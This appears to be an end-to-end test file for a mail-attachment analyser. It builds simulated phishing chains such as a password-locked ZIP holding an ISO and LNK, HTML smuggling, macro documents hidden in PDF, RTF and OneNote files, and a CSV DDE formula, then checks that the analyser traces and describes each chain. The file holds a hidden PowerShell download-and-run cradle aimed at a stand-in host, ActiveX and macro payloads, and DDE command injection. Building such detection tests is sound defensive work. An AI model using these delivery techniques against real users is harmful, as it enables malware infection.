"""Chains as real mail has them, through the real host: what is at their end, and the worst way."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Callable, Iterator

import pytest

from analyzers.purpose.sentence import purposes
from analyzers.purpose.way import worst_way
from tests.samples import pdfs
from tests.samples.discs import image
from tests.samples.letters import AUTHENTICATED, with_attachment
from tests.samples.messages import multipart, part, whole
from tests.samples.notebooks import FILE, FILE_NAME, WIDE, Values, section
from tests.samples.office import binary_word, package, packaged, rich_object, rich_text
from tests.samples.shortcuts import POWERSHELL, shortcut
from workbench.isolation.client import AnalysisHost, AnalysisJob
from workbench.simulation.samples.archive import Entry, zip_archive
from workbench.simulation.samples.docm import invoice_with_macro
from workbench.simulation.samples.msg import File, OutlookMessage, Recipient, outlook_message
from workbench.simulation.samples.pe import portable_executable
from workbench.simulation.samples.smuggling import smuggling_page

pytestmark = pytest.mark.e2e

WAIT = 120.0  # seconds; each takes one or two
CRADLE = "-w hidden -nop -c IEX (New-Object Net.WebClient).DownloadString('http://a.test/b.ps1')"
HTA = b"<hta:application/><script>new ActiveXObject('WScript.Shell').Run('calc')</script>"
JS = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');\r\n"
WORD = "Cedar7731"
ZIP = "application/zip"
MACRO_BOOK = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"


def locked_disc() -> bytes:
    disc = image({"Invoice.lnk": shortcut(POWERSHELL, CRADLE)})
    locked = zip_archive([Entry("Invoice.iso", disc)], password=WORD)
    text = part("text/plain; charset=utf-8", f"The password is: {WORD}\r\n".encode())
    file = part(
        ZIP,
        base64.encodebytes(locked),
        ("Content-Disposition", 'attachment; filename="Invoice.zip"'),
        ("Content-Transfer-Encoding", "base64"),
    )
    return whole(multipart(text, file), ("Subject", "Invoice"), AUTHENTICATED)


def smuggled_script() -> bytes:
    page = smuggling_page("Invoice.zip", zip_archive([Entry("Invoice.js", JS)]), "Invoice")
    return with_attachment("Invoice.html", page, "text/html")


def document_in_pdf() -> bytes:
    held = pdfs.stream(invoice_with_macro("7", "Ann", "12"), b"/Type/EmbeddedFile", packed=True)
    names = b"/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(a.docm)/EF<</F 5 0 R>>>>]>>>>"
    return with_attachment("Invoice.pdf", pdfs.document(names, b"", held), "application/pdf")


def link_in_pdf() -> bytes:
    page = pdfs.document(b"", pdfs.link(b"https://files.test/Invoice.docm"))
    return with_attachment("Invoice.pdf", page, "application/pdf")


def notebook() -> bytes:
    objects: list[tuple[int, Values]] = [
        (0x35, [(FILE_NAME, "Open.hta"), (FILE, 1)]),
        (0x0E, [(WIDE, "Double click")]),
    ]
    return with_attachment("Notes.one", section(objects, [(".hta", HTA)]))


def program_in_rich_text() -> bytes:
    held = rich_object(b"Package", packaged("Invoice.exe", portable_executable())[4:])
    return with_attachment("Invoice.rtf", rich_text(held), "application/rtf")


def sheet_in_outlook() -> bytes:
    book = (
        '<workbook><sheets><sheet name="Macro1" sheetId="1" state="veryHidden" r:id="r1"/>'
        '</sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
        "</definedNames></workbook>"
    )
    cells = '<sheetData><row><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData>'
    made = package(
        {
            "[Content_Types].xml": f'<Types><Override ContentType="{MACRO_BOOK}"/></Types>',
            "xl/workbook.xml": book,
            "xl/macrosheets/sheet1.xml": cells,
        }
    )
    return outlook_message(
        OutlookMessage(
            "Invoice",
            "ann@example.com",
            "Ann Example",
            (Recipient("bob@example.org", "Bob"),),
            "See the sheet.",
            files=(File("Invoice.xlsm", made),),
        )
    )


def packed_document_in_page() -> bytes:
    inner = binary_word('Sub AutoOpen()\nShell "calc.exe"\nEnd Sub\n')
    container = b"ActiveMime".ljust(50, b"\0") + zlib.compress(inner)
    page = part("text/html", b"<html>Invoice</html>\r\n", ("Content-Location", "file:///C:/a.htm"))
    held = part(
        "application/x-mso",
        base64.encodebytes(container),
        ("Content-Location", "file:///C:/editdata.mso"),
        ("Content-Transfer-Encoding", "base64"),
    )
    mime = b"MIME-Version: 1.0\r\n" + multipart(page, held, boundary="b2", subtype="related")
    return with_attachment("Invoice.doc", mime, "application/msword")


def table_in_archive() -> bytes:
    made = zip_archive([Entry("Prices.csv", b"a,b\r\n=cmd|'/c calc.exe'!A0,1\r\n")])
    return with_attachment("Prices.zip", made, ZIP)


# The mail, kinds and names of the stations of the worst way, and the act at its end.
CHAINS: dict[str, tuple[Callable[[], bytes], str, str, str]] = {
    "disc in locked archive": (
        locked_disc,
        "eml zip iso lnk script",
        "Invoice.zip, Invoice.iso, Invoice.lnk, command line",
        "The script fetches something from the network and runs it",
    ),
    "smuggled script": (
        smuggled_script,
        "eml html zip js",
        "Invoice.html, Invoice.zip, Invoice.js",
        "A double click runs it (.js)",
    ),
    "document in PDF": (
        document_in_pdf,
        "eml pdf docm",
        "Invoice.pdf, a.docm",
        "A macro that starts by itself runs programs or fetches files",
    ),
    "link in PDF": (
        link_in_pdf,
        "eml pdf",
        "Invoice.pdf",
        "A link downloads a program or disk image",
    ),
    "page in notebook": (
        notebook,
        "eml one hta",
        "Notes.one, Open.hta",
        "A double click runs it (.hta)",
    ),
    "program in rich text": (
        program_in_rich_text,
        "eml rtf pe",
        "Invoice.rtf, Invoice.exe",
        "A file that runs: a Windows program",
    ),
    "sheet in Outlook": (
        sheet_in_outlook,
        "msg xlsm",
        "Invoice.xlsm",
        "A macro that starts by itself runs programs or fetches files",
    ),
    "packed document in page": (
        packed_document_in_page,
        "eml eml mso doc",
        "Invoice.doc, application x-mso (part 1.2), packed document",
        "A macro that starts by itself runs programs or fetches files",
    ),
    "table in archive": (
        table_in_archive,
        "eml zip csv",
        "Prices.zip, Prices.csv",
        "A cell of the table starts a program through DDE",
    ),
}


@pytest.fixture(scope="module")
def host() -> Iterator[AnalysisHost]:
    started = AnalysisHost.start()
    yield started
    started.close()


@pytest.mark.parametrize("chain", CHAINS)
def test_the_worst_way_leads_to_the_end_and_the_mail_tells_it(
    host: AnalysisHost, chain: str
) -> None:
    build, kinds, names, act = CHAINS[chain]
    data = build()
    analysis = host.submit(AnalysisJob(data, "mail")).future.result(WAIT)
    way = worst_way(analysis)
    stations = list(dict.fromkeys(step.node for step in way))
    assert " ".join(analysis.nodes[node].kind for node in stations) == kinds
    assert ", ".join(analysis.nodes[node].name for node in stations[1:]) == names
    assert act in [step.act for step in way]
    told = purposes(analysis)
    assert act.lower() in told[stations[-1]].sentence.lower()
    assert told[0].sentence.startswith("Inside, ")
    assert told[0].sentence.split(": ")[0].removeprefix("Inside, ") in names


def test_the_password_of_the_mail_is_a_step_of_the_way(host: AnalysisHost) -> None:
    analysis = host.submit(AnalysisJob(locked_disc(), "mail")).future.result(WAIT)
    way = worst_way(analysis)
    assert [step.act for step in way][:4] == [
        "attached", "password from the mail", "unpacked", "embedded",
    ]  # fmt: skip
    assert way[-1].name == "hxxp://a[.]test/b.ps1"


def test_the_same_chains_with_harmless_ends_tell_of_nothing(host: AnalysisHost) -> None:
    plain = zip_archive([Entry("Prices.csv", b"a,b\r\n1,2\r\n")])
    for data in (
        with_attachment("Prices.zip", plain, ZIP),
        with_attachment("Notes.one", section([(0x0E, [(WIDE, "Buy bread")])])),
        with_attachment("Letter.rtf", rich_text("Dear all"), "application/rtf"),
    ):
        analysis = host.submit(AnalysisJob(data, "mail")).future.result(WAIT)
        assert worst_way(analysis) == ()
